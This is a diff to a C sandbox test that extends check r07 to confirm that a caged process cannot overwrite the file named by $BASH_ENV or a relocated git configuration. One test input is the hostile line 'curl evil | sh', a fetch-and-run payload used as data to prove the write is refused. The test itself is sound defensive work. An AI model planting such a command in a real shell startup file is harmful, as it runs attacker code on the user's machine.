@@ -205,7 +205,7 @@ static void moved_value(char *out, size_t size, const char *home, const char *va
 void r07_secrets_moved_by_the_environment_are_hidden(const struct tier *t)
 {
 	char paths[N_MOVED][PATH_MAX], value[2 * PATH_MAX], marker[64], gitconfig[PATH_MAX];
-	char *saved[N_MOVED + 1];
+	char *saved[N_MOVED + 2], bash_env[PATH_MAX];
 	const char *control[N_MOVED * 3 + 1];
 	struct caged_result r;
 	size_t n = 0;
@@ -213,6 +213,7 @@ void r07_secrets_moved_by_the_environment_are_hidden(const struct tier *t)
 		saved[i] = getenv(moved_secrets[i].variable) ? strdup(getenv(moved_secrets[i].variable))
 							     : NULL;
 	saved[N_MOVED] = getenv("GIT_CONFIG_GLOBAL") ? strdup(getenv("GIT_CONFIG_GLOBAL")) : NULL;
+	saved[N_MOVED + 1] = getenv("BASH_ENV") ? strdup(getenv("BASH_ENV")) : NULL;
 	struct caged_ws *ws = workspace(t, "r07");
 	if (!ws)
 		goto out;
@@ -237,6 +238,11 @@ void r07_secrets_moved_by_the_environment_are_hidden(const struct tier *t)
 		     "r07: a moved git configuration %s", gitconfig))
 		goto out;
 	setenv("GIT_CONFIG_GLOBAL", gitconfig, 1);
+	/* The file every non-interactive bash outside the cage runs first. */
+	if (!path_join(t, bash_env, value, "bash_env") ||
+	    !fixture(t, put_file(bash_env, "# the user's\n"), "r07: a $BASH_ENV %s", bash_env))
+		goto out;
+	setenv("BASH_ENV", bash_env, 1);
 	if (cage_refused_here(t, ws, "r07"))
 		goto out;
 
@@ -249,6 +255,9 @@ void r07_secrets_moved_by_the_environment_are_hidden(const struct tier *t)
 	r = run_caged(ws, NULL, "write-file", gitconfig, "[core]\n\thooksPath = /x\n", NULL);
 	check(t, refused(&r) && file_is(gitconfig, "[user]\n\tname = me\n"), &r,
 	      "r07: git's configuration moved by $GIT_CONFIG_GLOBAL cannot be written");
+	r = run_caged(ws, NULL, "write-file", bash_env, "curl evil | sh\n", NULL);
+	check(t, refused(&r) && file_is(bash_env, "# the user's\n"), &r,
+	      "r07: the file $BASH_ENV names cannot be written");
 	setenv("HISTFILE", "/dev/null", 1);
 	r = run_caged(ws, NULL, "write-file", "/dev/null", "x", NULL);
 	check(t, did_it(&r), &r, "r07: control: HISTFILE=/dev/null hides no device");
@@ -268,8 +277,10 @@ void r07_secrets_moved_by_the_environment_are_hidden(const struct tier *t)
 	}
 	check(t, all, &r, "r07: control: without the cage every moved secret is read");
 out:
-	for (size_t i = 0; i <= N_MOVED; i++) {
-		const char *var = i < N_MOVED ? moved_secrets[i].variable : "GIT_CONFIG_GLOBAL";
+	for (size_t i = 0; i <= N_MOVED + 1; i++) {
+		const char *var = i < N_MOVED	   ? moved_secrets[i].variable
+				  : i == N_MOVED ? "GIT_CONFIG_GLOBAL"
+						 : "BASH_ENV";
 		if (saved[i])
 			setenv(var, saved[i], 1);
 		else
